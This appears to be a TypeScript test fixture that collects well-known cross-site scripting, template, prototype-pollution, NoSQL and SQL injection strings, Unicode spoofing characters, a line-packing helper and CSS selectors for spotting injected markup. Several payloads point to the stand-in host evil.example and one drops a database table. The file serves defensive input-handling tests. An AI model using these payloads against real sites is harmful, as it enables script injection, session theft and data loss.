// What people try in order to have their text taken for something else: well-known vectors.

/** Texts that fit into a title, a message, an address and the name of a file. */
export const PAYLOADS = [
  // Elements with their own way to run.
  `<script>alert(1)</script>`,
  `<ScRiPt >alert(1)</sCrIpT >`,
  `<<script>script>alert(1)<</script>/script>`,
  `<img src=x onerror=alert(1)>`,
  `<img src=x:x onerror\n=alert(1) a=">`,
  `<svg/onload=alert(1)>`,
  `<svg><script>alert&#40;1)</script></svg>`,
  `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
  `<body onload=alert(1)>`,
  `<video><source onerror=alert(1)></video>`,
  `<input autofocus onfocus=alert(1)>`,
  `<details open ontoggle=alert(1)>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<object data="javascript:alert(1)"></object>`,
  `<embed src=//evil.example/x.swf>`,
  `<base href=//evil.example/>`,
  `<meta http-equiv=refresh content="0;url=//evil.example">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<style>*{background:url(//evil.example)}</style>`,
  `<form action=//evil.example><button>눌러 보십시오</button></form>`,
  `<a href="javascript:alert(1)">눌러 보십시오</a>`,
  `<template shadowrootmode=open><script>alert(1)</script></template>`,
  // Ways out of what surrounds a text.
  `"><svg/onload=alert(1)>`,
  `' onmouseover='alert(1)`,
  `" autofocus onfocus="alert(1)`,
  "`'\"--><img src=x onerror=alert(1)>",
  `</script><script>alert(1)</script>`,
  `</title></textarea></style></bdi></time><img src=x onerror=alert(1)>`,
  `--!><!--><script>alert(1)</script><![CDATA[]]>`,
  `\\"-alert(1)//`,
  // Markup that changes when it is parsed twice.
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
  `&lt;img src=x onerror=alert(1)&gt; &amp; &#60;script&#62; %3Cscript%3E`,
  // Addresses and templates.
  `javascript:alert(1)`,
  `JaVaScRiPt:alert(1)//https://example.org`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `vbscript:msgbox(1)`,
  `{{constructor.constructor('alert(1)')()}} {%raw%}`,
  `\${alert(1)} #{alert(1)} <%= alert(1) %> {@html "<b>x</b>"}`,
  // Names and values that programs know.
  `__proto__`,
  `{"$gt":""}`,
  `'; DROP TABLE rooms; --`,
  // Letters that are not what they seem.
  `Z̴̧̖͓̈́ȧ̸̛̻̞͐l̷̙̋͌g̵̡̳̾ọ̴̊̚!̶͖̓`,
  `가\u200b나\u200d다`,
  `＜script＞alert(1)＜/script＞`,
];

/** All of them on few lines of at most so many letters, as one line shows them. */
export function payloadLines(length: number): string[] {
  const lines: string[] = [];
  for (const payload of PAYLOADS) {
    const text = [...payload.replaceAll("\n", "")].slice(0, length).join("");
    const joined = `${lines.at(-1) ?? ""} ${text}`;
    if (lines.length > 0 && [...joined].length <= length) lines.splice(-1, 1, joined);
    else lines.push(text);
  }
  return lines;
}

/** Letters that would turn the direction of what follows them, or end what isolates them. */
export const TURNED = "\u202etxt.exe\u202c";
export const ISOLATED = "\u2067abc\u2069\u2069 끝";

/** Marks of markup that came out of a text, wherever on the page. */
export const FOREIGN = [
  "iframe",
  "object",
  "embed",
  "base",
  "details",
  "math",
  "noscript img",
  "[srcdoc]",
  "meta[http-equiv]",
  "[href*='evil.example']",
  "[action*='evil.example']",
  "a[href^='javascript:' i]",
  "[onerror]",
  "[onload]",
  "[onfocus]",
  "[onmouseover]",
  "[ontoggle]",
  "[onbegin]",
].join(", ");
